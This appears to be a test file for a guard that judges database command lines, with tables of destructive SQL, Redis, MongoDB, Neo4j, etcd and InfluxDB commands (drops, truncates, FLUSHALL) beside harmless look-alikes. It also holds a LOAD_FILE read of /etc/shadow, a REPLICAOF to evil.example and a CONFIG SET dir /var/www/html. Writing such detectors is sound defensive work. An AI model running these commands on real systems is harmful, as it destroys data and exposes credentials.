import { describe, expect, it } from 'vitest';
import { type Case, familyTable } from '../../../../test/verdict/family-table.ts';
import { judgeArgv } from './index.ts';

const D = 'DEST_MUTATION';
const P = 'POLICY_VIOLATION';
const F = 'FILESYSTEM_DENIED';

describe('data stores: SQL CLIs through the SQL analyzer', () => {
  familyTable([
    ["psql -c 'DROP TABLE users'", D],
    ['psql -d prod -c "TRUNCATE orders"', D],
    ['psql postgresql://app@db/prod -c "DELETE FROM invoices"', D],
    ["psql -h db -U admin prod -c 'DROP SCHEMA public CASCADE'", D],
    ["psql --command='DROP DATABASE prod'", D],
    ["psql -c 'SELECT 1' -c 'DROP TABLE users'", D],
    ["mysql -e 'DROP DATABASE shop'", D],
    ['mysql -u root -psecret shop -e "TRUNCATE TABLE orders"', D],
    ['mysql -u root -p shop -e "TRUNCATE TABLE orders"', D],
    ['mariadb -e "DELETE FROM users"', D],
    ['mysql --execute="UPDATE accounts SET balance=0" bank', D],
    ['mysql -e"DROP TABLE t"', D],
    ['sqlcmd -S prod-sql -Q "DROP TABLE dbo.Users"', D],
    ['sqlcmd -S . -d Sales -q "TRUNCATE TABLE dbo.Orders"', D],
    ["sqlite3 app.db 'DROP TABLE users'", D],
    ['sqlite3 data/app.db "DELETE FROM events"', D],
    ["sqlite3 -cmd 'DELETE FROM events' app.db .quit", D],
    ["duckdb warehouse.duckdb 'DROP TABLE sales'", D],
    ['duckdb -c "DELETE FROM sales"', D],
    ['cockroach sql --url "$DB_URL" -e \'DROP DATABASE bank CASCADE\'', D],
    ["clickhouse-client -q 'DROP DATABASE analytics'", D],
    ['clickhouse-client --query "TRUNCATE TABLE events"', D],
    ["clickhouse client --query 'DROP TABLE events'", D],
    ["cqlsh -e 'DROP KEYSPACE prod'", D],
    ['cqlsh cass01 -e "TRUNCATE shop.orders"', D],
    ["cqlsh -e 'drop  keyspace prod'", D],
    ["psql -c 'GRANT ALL ON ALL TABLES IN SCHEMA public TO app'", P],
    ["psql -c 'ALTER TABLE users ADD COLUMN nickname text'", P],
    ['mysql -e "SELECT LOAD_FILE(\'/etc/shadow\')"', F],
    // Look-alikes: reads, narrowed deletes, meta-commands, dumps.
    ["psql -c 'SELECT count(*) FROM users'", null],
    ['psql -c "DELETE FROM sessions WHERE expires_at < now()"', null],
    ['psql -c "SELECT \'drop table users\' AS hint"', null],
    ['psql -c "\\dt"', null],
    ['psql -f migrations/001.sql', null],
    ["mysql -e 'SHOW TABLES' shop", null],
    ['mysql -e "UPDATE users SET active=0 WHERE id=42" shop', null],
    ['sqlcmd -Q "SELECT @@VERSION"', null],
    ["sqlite3 app.db '.tables'", null],
    ["sqlite3 app.db 'DELETE FROM cache WHERE key = 1'", null],
    ["cqlsh -e 'DESCRIBE KEYSPACES'", null],
    ["clickhouse-client -q 'SELECT 1'", null],
    ['pg_dump prod > backup.sql', null],
    ['mysqldump shop > shop.sql', null],
  ] satisfies Case[]);
});

describe('data stores: their own commands', () => {
  familyTable([
    ['dropdb prod', D],
    ['dropdb -h db.internal -U postgres --if-exists analytics', D],
    ['mysqladmin -u root drop shop -f', D],
    ['mysqladmin -uroot -psecret -f drop shop', D],
    ['redis-cli FLUSHALL', D],
    ['redis-cli flushall async', D],
    ['redis-cli FlushAll', D],
    ['redis-cli -h cache.internal -n 2 FLUSHDB', D],
    ['redis-cli -h h -p 1 FlushAll', D],
    ['redis-cli -n 0 flushall', D],
    ['redis-cli -u redis://cache:6379 FLUSHDB SYNC', D],
    ['redis-cli -c -h node1 --no-auth-warning flushall', D],
    ['valkey-cli FLUSHALL', D],
    ['/usr/local/bin/redis-cli FLUSHDB', D],
    ['redis-cli EVAL "redis.call(\'FLUSHALL\')" 0', D],
    ['redis-cli REPLICAOF evil.example 6379', D],
    ['redis-cli --scan | xargs redis-cli del', D],
    ["redis-cli --scan --pattern 'session:*' | xargs redis-cli DEL", D],
    ["mongosh --eval 'db.dropDatabase()'", D],
    ['mongosh prod --eval "db.users.drop()"', D],
    ["mongosh mongodb://db/prod --eval 'db.orders.deleteMany({})'", D],
    ["mongosh --eval 'db.orders.deleteMany( { } )'", D],
    ['mongo prod --eval \'db.getSiblingDB("billing").dropDatabase()\'', D],
    ["mongosh --quiet --eval 'db.sessions.remove({})'", D],
    ["mongosh --eval='db.runCommand({dropDatabase: 1})'", D],
    ["mongosh --eval 'db.orders.updateMany({}, {$set: {status: 0}})'", D],
    ['mongosh --eval \'db.getCollection("logs").drop()\'', D],
    ["mongosh --eval 'db.logs.dropCollection()'", D],
    ['mongorestore --drop --uri mongodb://db/prod dump/', D],
    ["etcdctl del --prefix ''", D],
    ['etcdctl del / --prefix', D],
    // Look-alikes.
    ['redis-cli GET k', null],
    ['redis-cli DEL session:123', null],
    ['redis-cli INFO keyspace', null],
    ['redis-cli CONFIG GET maxmemory', null],
    ['redis-cli --scan --pattern "user:*" | head', null],
    ['redis-cli KEYS "flushall*"', null],
    ['redis-cli BGSAVE', null],
    ['redis-cli REPLICAOF NO ONE', null],
    ["mongosh --eval 'db.users.countDocuments()'", null],
    ["mongosh --eval 'db.users.deleteOne({_id: 42})'", null],
    ['mongosh --eval \'db.users.dropIndex("email_1")\'', null],
    ['mongosh --eval \'db.orders.deleteMany({status: "cancelled"})\'', null],
    ['mongorestore --uri mongodb://db/staging dump/', null],
    ['etcdctl del /app/feature-x', null],
    ['etcdctl get / --prefix --keys-only', null],
    ['dropdb --help', null],
  ] satisfies Case[]);
});

describe('data stores: SQL on standard input', () => {
  it.each([
    [['psql', 'prod'], 'DROP TABLE users;', D],
    [['mysql', 'shop'], 'DELETE FROM orders;', D],
    [['sqlite3', 'app.db'], 'DROP TABLE t', D],
    [['sqlcmd', '-S', 'db'], 'TRUNCATE TABLE dbo.Orders', D],
    [['psql', 'prod'], 'SELECT 1', null],
    [['psql', '-f', 'x.sql', 'prod'], 'DROP TABLE users;', null],
  ] as const)('%j reading %s → %s', (argv, stdin, code) => {
    expect(judgeArgv(argv, undefined, stdin)[0]?.code ?? null).toBe(code);
  });
});

describe('data stores: restores that replace data', () => {
  familyTable([
    ['pg_restore --clean -d prod backups/prod.dump', D],
    ['pg_restore -c --dbname=prod backups/prod.dump', D],
    ['pg_restore -c -f out.sql backups/prod.dump', null],
    ['pg_restore -d staging backups/prod.dump', null],
    ['redis-cli CONFIG SET dir /var/www/html', 'POLICY_VIOLATION'],
  ] satisfies Case[]);
});

describe('data stores: more SQL clients (usql, pgcli, mycli, litecli, snowsql, snow, trino, sqlplus)', () => {
  familyTable([
    ["usql postgres://app@db/shop -c 'DROP TABLE orders'", D],
    ['usql postgres://app@db/shop --command="DROP TABLE orders"', D],
    ["usql sqlserver://sa@db/shop -c 'TRUNCATE TABLE dbo.orders'", D],
    ["pgcli -h db -U app shop -c 'DROP SCHEMA public CASCADE'", D],
    ["pgcli postgres://app@db/shop <<< 'DELETE FROM users'", D],
    ["mycli -u root shop -e 'DROP DATABASE shop'", D],
    ["echo 'DELETE FROM users' | mycli shop", D],
    ["litecli app.db -e 'DELETE FROM users'", D],
    ["litecli --execute 'DROP TABLE sessions' app.db", D],
    ["echo 'DROP TABLE users' | litecli app.db", D],
    ["snowsql -a acme -u etl -q 'DROP DATABASE analytics'", D],
    ["snowsql -a acme -u etl --query 'TRUNCATE TABLE raw.events'", D],
    ['snowsql -c prod -f /dev/stdin <<< "DROP SCHEMA analytics.raw"', D],
    ["snow sql -q 'DROP DATABASE analytics'", D],
    ["echo 'DROP DATABASE analytics' | snow sql --stdin", D],
    ["trino --server https://trino.example.com --execute 'DROP SCHEMA hive.sales CASCADE'", D],
    ["presto --server https://presto.example.com --catalog hive --execute 'DELETE FROM sales.orders'", D],
    ["trino --server https://trino.example.com <<< 'DROP TABLE hive.sales.orders'", D],
    ["sqlplus -s user/pw@//db/ORCL <<< 'TRUNCATE TABLE orders;'", D],
    ["echo 'DROP TABLE orders;' | sqlplus -S scott/tiger@ORCL", D],
    ["sqlplus -silent /nolog <<< 'DELETE FROM orders;'", D],
    // Look-alikes: reads, narrowed deletes, files the verdict cannot read.
    ["usql postgres://app@db/shop -c 'SELECT count(*) FROM orders'", null],
    ['usql postgres://app@db/shop -f migrations/002.sql', null],
    ["pgcli -h db shop -c 'DELETE FROM sessions WHERE expires_at < now()'", null],
    ["litecli app.db -e 'DELETE FROM users WHERE id = 3'", null],
    ["snowsql -a acme -u etl -q 'SELECT current_version()'", null],
    ['snowsql -a acme -f deploy.sql <<< "DROP TABLE t"', null],
    ["trino --server https://trino.example.com --execute 'SHOW SCHEMAS FROM hive'", null],
    ["sqlplus -s user/pw@//db/ORCL <<< 'SELECT * FROM dual;'", null],
    ['sqlplus -V', null],
  ] satisfies Case[]);
});

describe('data stores: a file flag that names standard input', () => {
  familyTable([
    ["echo 'DROP TABLE users' | psql -f - prod", D],
    ["psql -f - prod <<< 'DROP TABLE users'", D],
    ["psql --file=/dev/stdin prod <<< 'TRUNCATE orders'", D],
    ["echo 'DROP TABLE dbo.Users' | sqlcmd -S db -i /dev/stdin", D],
    ["cockroach sql --url $DB -f - <<< 'DROP DATABASE bank CASCADE'", D],
    ["cqlsh -f /dev/stdin <<< 'TRUNCATE shop.orders'", D],
    ["clickhouse-client --queries-file - <<< 'DROP DATABASE analytics'", D],
    ["duckdb app.duckdb -f /dev/stdin <<< 'DROP TABLE sales'", D],
    ["usql postgres://db/app -f - <<< 'DROP TABLE orders'", D],
    // Look-alikes: a real file, or harmless input.
    ["psql -f - prod <<< 'SELECT 1'", null],
    ["psql -f schema.sql prod <<< 'DROP TABLE users'", null],
    ["echo 'SELECT @@VERSION' | sqlcmd -i /dev/stdin", null],
    ['sqlcmd -i setup.sql', null],
  ] satisfies Case[]);
});

describe('data stores: Cypher through cypher-shell', () => {
  familyTable([
    ["cypher-shell -u neo4j 'MATCH (n) DETACH DELETE n'", D],
    ["cypher-shell -u neo4j -p secret 'MATCH (n) DELETE n'", D],
    ["cypher-shell -a neo4j://db:7687 'MATCH ()-[r]->() DELETE r'", D],
    ["cypher-shell 'MATCH (n:User) DETACH DELETE n'", D],
    ["cypher-shell 'MATCH (n) WITH n LIMIT 10000 DETACH DELETE n'", D],
    ["cypher-shell 'MATCH (n) WHERE true DETACH DELETE n'", D],
    ["cypher-shell 'MATCH (n) CALL { WITH n DETACH DELETE n } IN TRANSACTIONS'", D],
    ["cypher-shell 'MATCH (u:User) SET u.active = false'", D],
    [
      `cypher-shell "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {batchSize: 1000})"`,
      D,
    ],
    ["cypher-shell -d system 'DROP DATABASE neo4j'", D],
    ["echo 'MATCH (n) DETACH DELETE n' | cypher-shell -u neo4j", D],
    ["cypher-shell -u neo4j <<< 'MATCH (n) DETACH DELETE n;'", D],
    ["cypher-shell -f - <<< 'MATCH (n) DETACH DELETE n'", D],
    // Look-alikes: a WHERE or a property map narrows; reads; a script file.
    ["cypher-shell -u neo4j 'MATCH (n:User {id: 42}) DETACH DELETE n'", null],
    [
      'cypher-shell \'MATCH (n:Temp) WHERE n.createdAt < datetime() - duration("P7D") DETACH DELETE n\'',
      null,
    ],
    ["cypher-shell 'MATCH (a:User {id: 1})-[r:FOLLOWS]->(b) DELETE r'", null],
    ["cypher-shell 'MATCH (n) RETURN count(n)'", null],
    ["cypher-shell 'MATCH (n) RETURN n.name AS delete LIMIT 5'", null],
    ['cypher-shell "MATCH (n:Note) WHERE n.text = \'MATCH (m) DETACH DELETE m\' RETURN n"', null],
    ["cypher-shell 'MERGE (u:User {id: 7}) SET u.seen = timestamp()'", null],
    ["echo 'MATCH (n) RETURN count(n)' | cypher-shell -u neo4j", null],
    ['cypher-shell -f cleanup.cypher', null],
  ] satisfies Case[]);
});

describe('data stores: influx delete', () => {
  familyTable([
    ['influx delete --bucket metrics --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z', D],
    ['influx delete -b metrics -o acme --start 2024-01-01T00:00:00Z --stop 2024-02-01T00:00:00Z', D],
    [
      "influx delete --bucket metrics --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z --predicate ''",
      D,
    ],
    ['influx bucket delete --name metrics', D],
    // Look-alikes: a predicate narrows; reads.
    [
      `influx delete --bucket metrics --start 1970-01-01T00:00:00Z --stop 2030-01-01T00:00:00Z --predicate '_measurement="cpu"'`,
      null,
    ],
    [
      `influx delete -b metrics --start 2024-01-01T00:00:00Z --stop 2024-01-02T00:00:00Z -p 'host="web-1"'`,
      null,
    ],
    ['influx bucket list', null],
    ['influx query \'from(bucket: "metrics") |> range(start: -1h)\'', null],
  ] satisfies Case[]);
});

describe('data stores: standard input handed to judgeArgv', () => {
  it.each([
    [['psql', '-f', '-', 'prod'], 'DROP TABLE users;', D],
    [['psql', '--file=/dev/stdin', 'prod'], 'DROP TABLE users;', D],
    [['sqlcmd', '-S', 'db', '-i', '/dev/stdin'], 'TRUNCATE TABLE dbo.Orders', D],
    [['sqlplus', '-s', 'scott/tiger@ORCL'], 'DROP TABLE orders;', D],
    [['trino', '--server', 'https://trino'], 'DROP SCHEMA hive.sales CASCADE', D],
    [['pgcli', 'shop'], 'DELETE FROM users', D],
    [['cypher-shell', '-u', 'neo4j'], 'MATCH (n) DETACH DELETE n;', D],
    [['cypher-shell', '-f', '/dev/stdin'], 'MATCH (n) DELETE n', D],
    [['psql', '-f', 'x.sql', 'prod'], 'DROP TABLE users;', null],
    [['sqlcmd', '-i', 'setup.sql'], 'DROP TABLE t', null],
    [['cypher-shell', '-u', 'neo4j'], 'MATCH (n:User {id: 1}) DETACH DELETE n;', null],
    [['cypher-shell', 'RETURN 1'], 'MATCH (n) DETACH DELETE n', null],
    [['sqlplus', '-s', 'scott/tiger@ORCL'], 'SELECT * FROM dual;\nEXIT;', null],
  ] as const)('%j reading %s → %s', (argv, stdin, code) => {
    expect(judgeArgv(argv, undefined, stdin)[0]?.code ?? null).toBe(code);
  });
});
